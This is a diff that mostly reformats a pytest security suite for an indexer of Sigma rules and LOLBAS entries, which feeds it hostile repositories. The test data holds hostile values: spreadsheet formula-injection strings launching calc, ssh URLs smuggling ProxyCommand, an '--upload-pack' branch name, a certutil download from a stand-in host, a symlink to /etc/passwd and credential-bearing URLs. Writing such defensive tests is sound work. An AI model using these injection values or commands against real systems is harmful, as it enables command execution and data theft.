@@ -49,35 +49,41 @@ REAL_GIT = subprocess.run(["sh", "-c", "command -v git"], capture_output=True, t
 # The 60,000-key file is about 600 KB, so the limit must sit above it; the oversized rule is 50 KB
 # over the limit. (A 20 KB limit could not hold the 60,000-key file.)
 MAX_FILE_BYTES = 700_000
-REFRESH_BUDGET_S = 120      # the whole hostile refresh; it takes a few seconds
-CLI_TIMEOUT_S = 120         # every CLI call is killed after this
+REFRESH_BUDGET_S = 120  # the whole hostile refresh; it takes a few seconds
+CLI_TIMEOUT_S = 120  # every CLI call is killed after this
 
 
 # --- helpers ------------------------------------------------------------------------------------
 
+
 def clean_env(**extra: str) -> dict[str, str]:
     """The environment without anything that would redirect the indexer or git."""
     drop = ("INDEXER_", "GIT_PYTHON_GIT_EXECUTABLE", "GIT_DIR", "GIT_WORK_TREE")
-    env = {k: v for k, v in os.environ.items()
-           if not k.startswith(drop) and "proxy" not in k.lower()}
+    env = {k: v for k, v in os.environ.items() if not k.startswith(drop) and "proxy" not in k.lower()}
     env["COLUMNS"] = "200"
     env.update(extra)
     return env
 
 
 def cli(*args: str, cwd: Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
-    return subprocess.run([*INDEXER, *args], capture_output=True, text=True, cwd=cwd,
-                          env=env or clean_env(), timeout=CLI_TIMEOUT_S)
+    return subprocess.run(
+        [*INDEXER, *args], capture_output=True, text=True, cwd=cwd, env=env or clean_env(), timeout=CLI_TIMEOUT_S
+    )
 
 
 def git(repo: Path, *args: str) -> str:
-    return subprocess.run(["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@t",
-                           "-c", "commit.gpgsign=false", *args],
-                          check=True, capture_output=True, text=True, timeout=60).stdout
+    return subprocess.run(
+        ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@t", "-c", "commit.gpgsign=false", *args],
+        check=True,
+        capture_output=True,
+        text=True,
+        timeout=60,
+    ).stdout
 
 
-def make_repo(root: Path, files: dict[str, bytes | str], links: dict[str, str] | None = None,
-              gitlinks: tuple[str, ...] = ()) -> Path:
+def make_repo(
+    root: Path, files: dict[str, bytes | str], links: dict[str, str] | None = None, gitlinks: tuple[str, ...] = ()
+) -> Path:
     """A real git repository (branch main, one commit) with files, symbolic links and submodule entries."""
     root.mkdir(parents=True)
     git(root, "init", "-q", "-b", "main")
@@ -99,8 +105,10 @@ def make_repo(root: Path, files: dict[str, bytes | str], links: dict[str, str] |
 @contextlib.contextmanager
 def time_limit(seconds: int) -> Iterator[None]:
     """Fail (instead of hanging the suite) if the block runs longer than `seconds`."""
+
     def expire(signum: int, frame: object) -> None:
         raise TimeoutError(f"still running after {seconds} s")
+
     previous = signal.signal(signal.SIGALRM, expire)
     signal.alarm(seconds)
     try:
@@ -110,7 +118,6 @@ def time_limit(seconds: int) -> Iterator[None]:
         signal.signal(signal.SIGALRM, previous)
 
 
-
 def tables(markdown: str, header: str) -> Iterator[list[str]]:
     """Every row of every table whose header line is `header`."""
     lines = markdown.split("\n")
@@ -118,7 +125,7 @@ def tables(markdown: str, header: str) -> Iterator[list[str]]:
         if line != header:
             continue
         assert re.fullmatch(r"--( \| --)*", lines[i + 1]), lines[i + 1]
-        for row in lines[i + 2:]:
+        for row in lines[i + 2 :]:
             if not row.strip():
                 break
             yield split_row(row)
@@ -142,6 +149,7 @@ def code_span_text(cell: str) -> str:
 
 
 # --- the hostile repositories -------------------------------------------------------------------
+
 
 def sigma_rule(title: str, image: str, rule_id: str, extra: str = "") -> str:
     return f"""title: {title}
@@ -247,8 +255,13 @@ detection:
 level: high
 """
 # Lines of HOSTILE_RULE whose snippet starts with a spreadsheet formula character.
-FORMULA_SNIPPETS = ["=cmd|' /c calc'!A3.exe", "+cmd|' /c calc'!A4.exe", "@at.exe", "-dash.exe",
-                    "- \"=cmd|' /c calc'!A1.exe\""]
+FORMULA_SNIPPETS = [
+    "=cmd|' /c calc'!A3.exe",
+    "+cmd|' /c calc'!A4.exe",
+    "@at.exe",
+    "-dash.exe",
+    "- \"=cmd|' /c calc'!A1.exe\"",
+]
 
 HOSTILE_PATHS = {  # files whose *paths* are hostile; their content is a good rule
     "rules/windows/-rf.yml": ("dashpath.exe", "0badc0de-0000-4000-8000-000000000002"),
@@ -292,11 +305,11 @@ BAD_FILES: dict[str, bytes | str] = {
     W + "latin1.yml": "title: Caf\xe9 naming latin1.exe\n".encode("latin-1"),
     W + "utf16.yml": "\ufefftitle: UTF-16 naming utf16.exe\n".encode("utf-16-le"),
     W + "tabs.yml": "title: Tabs naming tabs.exe\ndetection:\n\tselection:\n\t\tImage|endswith: '\\tabs.exe'\n"
-                    "\tcondition: selection\n",
+    "\tcondition: selection\n",
     W + "duplicate.yml": "title: Duplicate naming duplicate.exe\nid: x\ntitle: again\n",
     W + "duplicate_nested.yml": "title: Nested duplicate\ndetection:\n    selection:\n"
-                                "        Image|endswith: '\\dupnested.exe'\n        Image|endswith: '\\other.exe'\n"
-                                "    condition: selection\n",
+    "        Image|endswith: '\\dupnested.exe'\n        Image|endswith: '\\other.exe'\n"
+    "    condition: selection\n",
     W + "list.yml": "- title: A list naming listdoc.exe\n- detection: {}\n",
     W + "scalar.yml": "just a scalar naming scalardoc.exe\n",
     W + "bad_date.yml": "title: Bad date naming baddate.exe\ndate: 2024-13-45\n",
@@ -327,9 +340,24 @@ EXPECTED_PROBLEMS = {
     W + "python_tag.yml": ("error", "invalid YAML.*constructor"),
 }
 # names that only bad files carry: none may reach the index
-BAD_NAMES = ["secret.exe", "toobig.exe", "bomb.exe", "deepflow.exe", "deepblock.exe", "deepmap.exe",
-             "latin1.exe", "utf16.exe", "tabs.exe", "duplicate.exe", "dupnested.exe", "listdoc.exe",
-             "scalardoc.exe", "baddate.exe", "nul.exe", "pwned.exe"]
+BAD_NAMES = [
+    "secret.exe",
+    "toobig.exe",
+    "bomb.exe",
+    "deepflow.exe",
+    "deepblock.exe",
+    "deepmap.exe",
+    "latin1.exe",
+    "utf16.exe",
+    "tabs.exe",
+    "duplicate.exe",
+    "dupnested.exe",
+    "listdoc.exe",
+    "scalardoc.exe",
+    "baddate.exe",
+    "nul.exe",
+    "pwned.exe",
+]
 
 
 def lolbas_entry(name: str, command: str) -> str:
@@ -374,8 +402,9 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
         **GOOD,
         HOSTILE_RULE_PATH: HOSTILE_RULE,
         **{path: sigma_rule(f"Hostile path naming {name}", name, rid) for path, (name, rid) in HOSTILE_PATHS.items()},
-        NEWLINE_PATH: sigma_rule("Newline path naming newlinepath.exe", "newlinepath.exe",
-                                 "0badc0de-0000-4000-8000-000000000007"),
+        NEWLINE_PATH: sigma_rule(
+            "Newline path naming newlinepath.exe", "newlinepath.exe", "0badc0de-0000-4000-8000-000000000007"
+        ),
         W + "process_creation/big.yml": oversized_rule(),
         W + "many_keys.yml": many_keys(),
         **BAD_FILES,
@@ -390,16 +419,24 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
         W + "loop.yml": "..",
     }
     sigma = make_repo(sigma_dir, files, links, gitlinks=(W + "submodule.yml",))
-    lolbas = make_repo(root / "lolbas", {
-        "yml/OSBinaries/Certutil.yml": lolbas_entry("Certutil.exe", "certutil.exe -urlcache -f http://x/a a"),
-        "yml/OSBinaries/Hostile.yml": lolbas_entry("a|b.exe", "=cmd|' /c calc'!A0.exe"),
-        **{f"yml/OSBinaries/Hostile{i}.yml": lolbas_entry(name, f"{name} --x")
-           for i, name in enumerate(LOLBAS_HOSTILE_NAMES)},
-    }, {"yml/OSBinaries/Passwd.yml": "/etc/passwd"})
+    lolbas = make_repo(
+        root / "lolbas",
+        {
+            "yml/OSBinaries/Certutil.yml": lolbas_entry("Certutil.exe", "certutil.exe -urlcache -f http://x/a a"),
+            "yml/OSBinaries/Hostile.yml": lolbas_entry("a|b.exe", "=cmd|' /c calc'!A0.exe"),
+            **{
+                f"yml/OSBinaries/Hostile{i}.yml": lolbas_entry(name, f"{name} --x")
+                for i, name in enumerate(LOLBAS_HOSTILE_NAMES)
+            },
+        },
+        {"yml/OSBinaries/Passwd.yml": "/etc/passwd"},
+    )
 
     data_dir = root / "data"
-    specs = [SourceSpec("sigma", url=str(sigma), branch="main", web_url="https://github.com/t/sigma"),
-             SourceSpec("lolbas", url=str(lolbas), branch="main", web_url="https://github.com/t/lolbas")]
+    specs = [
+        SourceSpec("sigma", url=str(sigma), branch="main", web_url="https://github.com/t/sigma"),
+        SourceSpec("lolbas", url=str(lolbas), branch="main", web_url="https://github.com/t/lolbas"),
+    ]
     started = time.monotonic()
     with time_limit(REFRESH_BUDGET_S):
         manifest = refresh(RefreshOptions(data_dir, specs, max_file_bytes=MAX_FILE_BYTES))
@@ -407,13 +444,30 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
 
     exports = root / "exports"
     runs = {}
-    for fmt, out in (("csv", "all.csv"), ("json", "all.json"), ("jsonl", "all.jsonl"),
-                     ("markdown", "all.md"), ("markdown", "pages")):
-        runs[out] = cli("export", "--format", fmt, "--output", str(exports / out), "--data-dir", str(data_dir),
-                        cwd=root)
+    for fmt, out in (
+        ("csv", "all.csv"),
+        ("json", "all.json"),
+        ("jsonl", "all.jsonl"),
+        ("markdown", "all.md"),
+        ("markdown", "pages"),
+    ):
+        runs[out] = cli(
+            "export", "--format", fmt, "--output", str(exports / out), "--data-dir", str(data_dir), cwd=root
+        )
     stats = cli("stats", "--json", "--data-dir", str(data_dir), cwd=root)
-    return {"root": root, "data_dir": data_dir, "manifest": manifest, "elapsed": elapsed, "marker": marker,
-            "pwned": pwned, "sigma": sigma, "lolbas": lolbas, "exports": exports, "runs": runs, "stats": stats}
+    return {
+        "root": root,
+        "data_dir": data_dir,
+        "manifest": manifest,
+        "elapsed": elapsed,
+        "marker": marker,
+        "pwned": pwned,
+        "sigma": sigma,
+        "lolbas": lolbas,
+        "exports": exports,
+        "runs": runs,
+        "stats": stats,
+    }
 
 
 @pytest.fixture()
@@ -427,6 +481,7 @@ def all_sorted(reader: IndexReader) -> list:
 
 
 # --- 1. the refresh over hostile repositories -----------------------------------------------------
+
 
 def test_refresh_finishes_in_bounded_time_with_file_errors(hostile: dict) -> None:
     manifest: Manifest = hostile["manifest"]
@@ -491,9 +546,12 @@ def test_nothing_outside_the_clone_is_read(hostile: dict, reader: IndexReader) -
         for needle in forbidden:
             assert needle.encode() not in raw, (needle, path)
     for name in ("sigma", "lolbas"):
-        objects = subprocess.run(["git", "-C", str(data_dir / "sources" / f"{name}.git"), "cat-file",
-                                  "--batch-all-objects", "--batch"], capture_output=True, check=True,
-                                 timeout=60).stdout
+        objects = subprocess.run(
+            ["git", "-C", str(data_dir / "sources" / f"{name}.git"), "cat-file", "--batch-all-objects", "--batch"],
+            capture_output=True,
+            check=True,
+            timeout=60,
+        ).stdout
         for needle in forbidden:
             assert needle.encode() not in objects, (needle, name)
     assert hostile["stats"].stdout and marker not in hostile["stats"].stdout
@@ -513,6 +571,7 @@ def test_stats_lists_the_problems(hostile: dict) -> None:
 
 
 # --- exports of the hostile index, parsed back --------------------------------------------------
+
 
 def test_exports_ran(hostile: dict) -> None:
     for out, done in hostile["runs"].items():
@@ -573,7 +632,9 @@ def check_markdown(text: str) -> int:
 def test_markdown_single_file(hostile: dict, reader: IndexReader) -> None:
     text = (hostile["exports"] / "all.md").read_text(encoding="utf-8")
     assert check_markdown(text) == len(list(reader.all_mentions()))
-    cells = {code_span_text(row[2]) for row in tables(text, "Source | Source File | Example | License | Role | Verdict")}
+    cells = {
+        code_span_text(row[2]) for row in tables(text, "Source | Source File | Example | License | Role | Verdict")
+    }
     assert cells == {clean(m.snippet) for m in reader.all_mentions()}
 
 
@@ -623,6 +684,7 @@ def test_markdown_links_point_at_the_rule_line(hostile: dict, reader: IndexReade
 # record the fetch of an accepted URL. PATH is changed only in the child's environment, so there
 # is nothing to restore.
 
+
 @pytest.fixture()
 def shim(tmp_path: Path) -> tuple[Path, dict[str, str]]:
     folder = tmp_path / "shim"
@@ -632,8 +694,9 @@ def shim(tmp_path: Path) -> tuple[Path, dict[str, str]]:
     script.write_text(
         "#!/bin/sh\n"
         "{ printf 'ALLOW=%s' \"${GIT_ALLOW_PROTOCOL-unset}\"; "
-        "for a in \"$@\"; do printf ' \\037%s' \"$a\"; done; printf '\\n'; } >> \"$GIT_SHIM_LOG\"\n"
-        f"exec {REAL_GIT} \"$@\"\n")
+        'for a in "$@"; do printf \' \\037%s\' "$a"; done; printf \'\\n\'; } >> "$GIT_SHIM_LOG"\n'
+        f'exec {REAL_GIT} "$@"\n'
+    )
     script.chmod(0o755)
     env = clean_env(PATH=f"{folder}{os.pathsep}{os.environ.get('PATH', '')}", GIT_SHIM_LOG=str(log))
     return log, env
@@ -693,8 +756,17 @@ def tiny_repo(tmp_path_factory: pytest.TempPathFactory) -> Path:
 def test_refused_branch_runs_no_git(branch: str, tmp_path: Path, tiny_repo: Path, shim) -> None:
     log, env = shim
     data_dir = tmp_path / "data"
-    done = cli("refresh", "--data-dir", str(data_dir), "--source", "sigma", f"--sigma-url={tiny_repo}",
-               f"--sigma-branch={branch}", cwd=tmp_path, env=env)
+    done = cli(
+        "refresh",
+        "--data-dir",
+        str(data_dir),
+        "--source",
+        "sigma",
+        f"--sigma-url={tiny_repo}",
+        f"--sigma-branch={branch}",
+        cwd=tmp_path,
+        env=env,
+    )
     assert done.returncode in (ExitCode.SOURCE_FAILED, ExitCode.USAGE), (done.returncode, done.stderr)
     errors = [ln for ln in done.stderr.splitlines() if "error" in ln.lower()]
     assert len(errors) == 1 and "refused branch name" in errors[0] and branch in errors[0], done.stderr
@@ -705,19 +777,36 @@ def test_refused_branch_runs_no_git(branch: str, tmp_path: Path, tiny_repo: Path
 
 
 def test_refused_branch_is_a_usage_error_like_a_refused_url(tmp_path: Path, tiny_repo: Path) -> None:
-    done = cli("refresh", "--data-dir", str(tmp_path / "data"), "--source", "sigma", f"--sigma-url={tiny_repo}",
-               "--sigma-branch=--upload-pack=x", cwd=tmp_path)
+    done = cli(
+        "refresh",
+        "--data-dir",
+        str(tmp_path / "data"),
+        "--source",
+        "sigma",
+        f"--sigma-url={tiny_repo}",
+        "--sigma-branch=--upload-pack=x",
+        cwd=tmp_path,
+    )
     assert done.returncode == ExitCode.USAGE, (done.returncode, done.stdout, done.stderr)
 
 
-@pytest.mark.parametrize("url", ["ssh://-oProxyCommand=touch%20{pwned}/x.git",
-                                 "ssh://u@-oProxyCommand=touch%20{pwned}/x.git"])
+@pytest.mark.parametrize(
+    "url", ["ssh://-oProxyCommand=touch%20{pwned}/x.git", "ssh://u@-oProxyCommand=touch%20{pwned}/x.git"]
+)
 def test_ssh_host_that_is_an_option_runs_nothing(url: str, tmp_path: Path, shim) -> None:
     """Accepted by normalise_url (scheme ssh); git's own check must block it before ssh runs."""
     log, env = shim
     pwned = tmp_path / f"pwned-{uuid.uuid4().hex}"
-    done = cli("refresh", "--data-dir", str(tmp_path / "data"), "--source", "sigma",
-               f"--sigma-url={url.format(pwned=pwned)}", cwd=tmp_path, env=env)
+    done = cli(
+        "refresh",
+        "--data-dir",
+        str(tmp_path / "data"),
+        "--source",
+        "sigma",
+        f"--sigma-url={url.format(pwned=pwned)}",
+        cwd=tmp_path,
+        env=env,
+    )
     assert done.returncode in (ExitCode.SOURCE_FAILED, ExitCode.USAGE), (done.returncode, done.stderr)
     assert not pwned.exists()
     assert "Traceback" not in done.stderr
@@ -726,8 +815,11 @@ def test_ssh_host_that_is_an_option_runs_nothing(url: str, tmp_path: Path, shim)
             assert allow == "file:https:ssh", (allow, args)
 
 
-CREDENTIAL_URLS = ["https://user:s3cret@127.0.0.1:9/x.git", "https://s3cret@127.0.0.1:9/x.git",
-                   "https://user:s3cret%40more@127.0.0.1:9/x.git"]
+CREDENTIAL_URLS = [
+    "https://user:s3cret@127.0.0.1:9/x.git",
+    "https://s3cret@127.0.0.1:9/x.git",
+    "https://user:s3cret%40more@127.0.0.1:9/x.git",
+]
 
 
 @pytest.mark.parametrize("url", CREDENTIAL_URLS)
@@ -735,9 +827,20 @@ def test_credentials_are_never_printed_or_recorded(url: str, tmp_path: Path, shi
     log, env = shim
     data_dir = tmp_path / "data"
     log_file = tmp_path / "refresh.log"
-    runs = [cli("refresh", "--data-dir", str(data_dir), "--source", "sigma", f"--sigma-url={url}", *extra,
-                cwd=tmp_path, env=env)
-            for extra in (["--json"], ["--verbose", "--log-file", str(log_file)])]
+    runs = [
+        cli(
+            "refresh",
+            "--data-dir",
+            str(data_dir),
+            "--source",
+            "sigma",
+            f"--sigma-url={url}",
+            *extra,
+            cwd=tmp_path,
+            env=env,
+        )
+        for extra in (["--json"], ["--verbose", "--log-file", str(log_file)])
+    ]
     for done in runs:
         assert done.returncode == ExitCode.SOURCE_FAILED, (done.returncode, done.stderr)
         assert "s3cret" not in done.stdout and "s3cret" not in done.stderr
@@ -756,8 +859,15 @@ def test_credentials_are_never_printed_or_recorded(url: str, tmp_path: Path, shi
 
 def test_a_url_that_failed_is_not_reused_by_the_next_refresh(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     data_dir = tmp_path / "data"
-    first = cli("refresh", "--data-dir", str(data_dir), "--source", "sigma",
-                "--sigma-url=https://user:s3cret@127.0.0.1:9/x.git", cwd=tmp_path)
+    first = cli(
+        "refresh",
+        "--data-dir",
+        str(data_dir),
+        "--source",
+        "sigma",
+        "--sigma-url=https://user:s3cret@127.0.0.1:9/x.git",
+        cwd=tmp_path,
+    )
     assert first.returncode == ExitCode.SOURCE_FAILED
     # what a later `indexer refresh` (no --sigma-url, no $INDEXER_SIGMA_URL) would fetch
     monkeypatch.delenv("INDEXER_SIGMA_URL", raising=False)
@@ -766,12 +876,26 @@ def test_a_url_that_failed_is_not_reused_by_the_next_refresh(tmp_path: Path, mon
 
 
 def test_a_bad_value_under_an_explicit_tag_does_not_abort_the_refresh(tmp_path: Path) -> None:
-    repo = make_repo(tmp_path / "sigma", {"rules/windows/good.yml": GOOD[next(iter(GOOD))],
-                                          "rules/windows/bool.yml": "title: !!bool x\n",
-                                          "rules/windows/timestamp.yml": "title: !!timestamp x\n"})
+    repo = make_repo(
+        tmp_path / "sigma",
+        {
+            "rules/windows/good.yml": GOOD[next(iter(GOOD))],
+            "rules/windows/bool.yml": "title: !!bool x\n",
+            "rules/windows/timestamp.yml": "title: !!timestamp x\n",
+        },
+    )
     data_dir = tmp_path / "data"
-    done = cli("refresh", "--data-dir", str(data_dir), "--source", "sigma", f"--sigma-url={repo}",
-               "--sigma-branch=main", "--json", cwd=tmp_path)
+    done = cli(
+        "refresh",
+        "--data-dir",
+        str(data_dir),
+        "--source",
+        "sigma",
+        f"--sigma-url={repo}",
+        "--sigma-branch=main",
+        "--json",
+        cwd=tmp_path,
+    )
     assert "Traceback" not in done.stderr, done.stderr[-600:]
     assert done.returncode == ExitCode.FILE_ERRORS
     errors = {e["path"]: e["reason"] for e in json.loads(done.stdout)["file_errors"]}
